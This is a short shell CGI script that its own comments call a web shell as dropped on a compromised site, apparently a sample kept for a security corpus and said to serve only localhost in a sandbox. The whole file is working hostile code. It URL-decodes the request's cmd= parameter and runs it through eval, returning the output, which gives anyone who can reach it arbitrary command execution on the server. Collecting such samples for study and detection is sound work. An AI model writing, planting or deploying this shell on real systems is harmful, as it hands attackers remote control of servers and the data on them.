#!/bin/sh
# A web shell, as dropped on a compromised site: it runs the request's cmd= parameter.
# (Corpus sample; it only ever serves 127.0.0.1 inside the sandbox.)
echo "Content-Type: text/plain"
echo ""
q=${QUERY_STRING#cmd=}
q=$(echo "$q" | /bin/sed 's/+/ /g; s/%\([0-9A-Fa-f][0-9A-Fa-f]\)/\\x\1/g')
cmd=$(printf '%b' "$q")
eval "$cmd" 2>&1
